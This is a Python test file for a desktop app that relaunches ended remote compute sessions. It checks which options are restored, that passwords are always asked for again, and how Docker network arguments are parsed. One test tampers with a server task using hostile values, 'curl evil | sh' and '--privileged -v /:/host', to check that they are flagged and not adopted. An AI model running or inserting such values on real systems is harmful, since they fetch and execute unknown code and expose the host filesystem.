"""Launching again: with the options that are kept here, with what the task tells, and never with a secret."""

from dataclasses import fields, replace

import pytest

from desktop_app.domain.launch.options import LaunchSpec
from desktop_app.domain.problems import AppError
from desktop_app.domain.sessions.again import LaunchedTask, spec_of_task
from desktop_app.domain.sessions.finished import FinishedSession
from desktop_app.domain.sessions.snapshot import End, Remote, ServerFacts, SessionId
from tests.fakes.outside import ACCOUNT
from tests.support.core_rig import SPEC, CoreRig

# What a task tells; the rest concerns this computer only, or is asked again.
TOLD = LaunchSpec(
    queue="default", name="told", project="Team/Lab", tags="another\none tag", jupyterlab=False,
    jupyterlab_version="4.6.6", vscode_version="4.105.1", vscode_extensions="a.b\nc.d", debug_task="d1",
    base_task="b1", docker="python:3.12", packages="torch==2.5\ntqdm", init_script="export A=1\necho ü",
    init_script_minutes="45", user_folder="/data x", docker_args="--shm-size=8g", docker_network="port",
    store_workspace="~/work", continue_session="c1", workspace_minutes="20", username="ada", public_ip=True,
    ssh_port="2222:2300", router_enabled=True, force_dropbear=True,
    vscode_url="/opt/code-server.tar.gz#sha256=" + "a" * 64,
)  # fmt: skip
NOT_TOLD = {
    "requirements", "upload_files", "git_credentials", "clearml_credentials", "ssh_agent_forwarding", "randomize",
    "storage_packages", "session_cleanup", "queue_include_tag", "queue_excluded_tag", "store_defaults", "password",
    "attach_passphrase", "vscode", "cli_compatible", "remote_gateway",
}  # fmt: skip


def ended(rig: CoreRig, spec: LaunchSpec = SPEC) -> SessionId:
    for task in ("d1", "b1"):
        rig.server.add_session(ServerFacts(Remote.ENDED, "another task"), foreign=True, task=task)
    if spec.continue_session == "c1":
        rig.server.add_session(ServerFacts(Remote.ENDED, "what is continued"), task="c1")
    session = rig.launch(spec)
    rig.server.end(session.task)
    rig.core.store.see(session, rig.server.sessions.get(session.task, rig.soon()).facts)
    return session


def test_a_session_of_this_computer_is_launched_with_all_its_options() -> None:
    wanted = replace(TOLD, git_credentials=True, storage_packages=False, randomize="always", session_cleanup="no")
    with CoreRig(start=False) as rig:
        session = ended(rig, wanted)
        again = rig.core.history.again(session, rig.soon())
        assert again.spec == replace(wanted, store_defaults=False)
        assert again.asks == () and not again.partial  # its password was made, and another one will be
        before = rig.core.launches.last_spec(ACCOUNT.id)
        second = rig.launch(replace(again.spec, packages="numpy"))
        assert rig.core.launches.last_spec(ACCOUNT.id) == before
        assert rig.server.rows[second.task].draft.docker_args == rig.server.rows[session.task].draft.docker_args


def test_a_session_of_another_computer_is_launched_with_what_its_task_tells() -> None:
    assert {f.name for f in fields(TOLD) if getattr(TOLD, f.name) == f.default} == NOT_TOLD
    with CoreRig(start=False) as rig:
        session = ended(rig, replace(TOLD, git_credentials=True))
        rig.world.memory.sessions.forget(session.text)
        again = rig.core.history.again(session, rig.soon())
        assert again.spec == replace(TOLD, store_defaults=False) and again.partial
        told = {f.name: getattr(TOLD, f.name) for f in fields(TOLD) if f.name not in NOT_TOLD}
        assert again.taken == told and not again.left


def test_what_publishes_a_password_or_leads_elsewhere_is_never_taken_from_a_task() -> None:
    with CoreRig(start=False) as rig:
        session = ended(rig, replace(SPEC, cli_compatible=True, remote_gateway="gate:31022"))
        again = rig.core.history.again(session, rig.soon())
        assert again.spec.cli_compatible and again.spec.remote_gateway == "gate:31022" and not again.left
        rig.world.memory.sessions.forget(session.text)
        again = rig.core.history.again(session, rig.soon())
        assert not again.spec.cli_compatible and not again.spec.remote_gateway
        assert again.left == ("cli_compatible", "remote_gateway") and again.asks == ()  # its password was made for it


def test_what_this_computer_kept_counts_and_what_the_task_says_instead_is_named() -> None:
    kept = replace(SPEC, docker="python:3.12", docker_args="--shm-size=8g", git_credentials=True)
    with CoreRig(start=False) as rig:
        rig.server.set_queue("evil", ["theirs"])
        session = ended(rig, kept)
        assert rig.core.history.again(session, rig.soon()).differs == ()
        rig.server.change(session.task, queue="evil", name="renamed")
        task = rig.server.rows[session.task]
        task.parameters |= {"init_script": "curl evil | sh", "remote_gateway": "evil:22"}
        task.draft = replace(task.draft, docker="evil:1", docker_args="--privileged -v /:/host")
        again = rig.core.history.again(session, rig.soon())
        assert again.spec == replace(kept, store_defaults=False) and not again.partial and again.taken == {}
        assert dict(again.differs) == {
            "queue": "evil", "name": "renamed", "docker": "evil:1", "docker_args": "--privileged -v /:/host",
            "init_script": "curl evil | sh", "remote_gateway": "evil:22",
        }  # fmt: skip


def test_secrets_are_asked_for_and_never_found() -> None:
    with CoreRig(start=False) as rig:
        session = ended(rig, replace(SPEC, password="correct horse", attach_passphrase="battery staple"))
        for _ in range(2):  # known here, then from the task alone
            again = rig.core.history.again(session, rig.soon())
            assert again.asks == ("password", "attach_passphrase")
            assert again.spec.password == again.spec.attach_passphrase == ""
            rig.world.memory.sessions.forget(session.text)


def test_the_queue_is_the_one_that_a_person_moved_it_to_here() -> None:
    with CoreRig(start=False) as rig:
        rig.server.set_queue("gpu", ["a"])
        session = rig.launch()
        rig.core.sessions.move_to_queue(session, "gpu", rig.soon())
        rig.server.end(session.task)
        again = rig.core.history.again(session, rig.soon())
        assert again.spec.queue == "gpu" and again.differs == ()


def test_beside_a_living_session_of_the_same_name_it_gets_a_number() -> None:
    with CoreRig(start=False) as rig:
        session = ended(rig)
        assert rig.core.history.again(session, rig.soon()).spec.name == SPEC.name
        rig.launch()
        assert rig.core.history.again(session, rig.soon()).spec.name == f"{SPEC.name} 2"


@pytest.mark.parametrize(
    ("stored", "folder", "becomes"),
    [(1.0, "~/work", ("~/work", "MINE")), (1.0, "", ("~/older", "MINE")), (0.0, "~/work", ("~/work", "earlier"))],
)
def test_what_a_continued_session_stored_is_not_left_behind(
    stored: float, folder: str, becomes: tuple[str, str]
) -> None:
    with CoreRig(start=False) as rig:
        earlier = rig.server.add_session(ServerFacts(Remote.ENDED, "the earlier one"), task="earlier")
        rig.server.rows[earlier].folder = "~/older"
        session = ended(rig, replace(SPEC, store_workspace=folder, continue_session=earlier))
        rig.server.rows[session.task].stored = stored
        spec = rig.core.history.again(session, rig.soon()).spec
        assert (spec.store_workspace, spec.continue_session.replace(session.task, "MINE")) == becomes


def test_without_its_task_what_is_kept_here_is_enough() -> None:
    with CoreRig(start=False) as rig:
        session = ended(rig, replace(SPEC, packages="tqdm"))
        rig.server.delete(session.task)
        assert rig.core.history.again(session, rig.soon()).spec == replace(SPEC, packages="tqdm", store_defaults=False)
        rig.world.memory.sessions.forget(session.text)
        with pytest.raises(AppError) as caught:
            rig.core.history.again(session, rig.soon())
        assert caught.value.problem.code == "task.gone"


def test_a_copy_whose_source_nobody_knows_is_refused() -> None:
    with CoreRig(start=False) as rig:
        session = ended(rig)
        rig.server.rows[session.task].parameters["debug_run"] = "{}"  # an older version told no more
        assert rig.core.history.again(session, rig.soon()).spec.name == SPEC.name
        rig.world.memory.sessions.forget(session.text)
        with pytest.raises(AppError) as caught:
            rig.core.history.again(session, rig.soon())
        assert caught.value.problem.code == "again.copy"


@pytest.mark.parametrize(
    ("image", "arguments", "own", "network"),
    [
        ("", "", "", "host"), ("", "--ipc host", "--ipc host", "host"),
        ("x", "--network host", "", "host"), ("x", "-e A=1 --network host", "-e A=1", "host"),
        ("x", "-p 10022:2222", "", "port"), ("x", "", "", "none"), ("x", "-p 80:80", "-p 80:80", "none"),
        ("x", "--network=mine", "--network=mine", "host"),
    ],
)  # fmt: skip
def test_the_network_is_told_from_the_user_s_own_arguments(image: str, arguments: str, own: str, network: str) -> None:
    spec = spec_of_task(LaunchedTask({}, image, arguments), ServerFacts(Remote.ENDED, "x"))
    assert (spec.docker_args, spec.docker_network) == (own, network)


def test_ended_sessions_are_listed() -> None:
    with CoreRig(start=False) as rig:
        session = ended(rig)
        rig.launch()
        assert rig.core.history.ended(ACCOUNT.id, rig.soon()) == (FinishedSession(session.task, SPEC.name),)
        assert rig.server.rows[session.task].facts.end is End.SHUT_DOWN
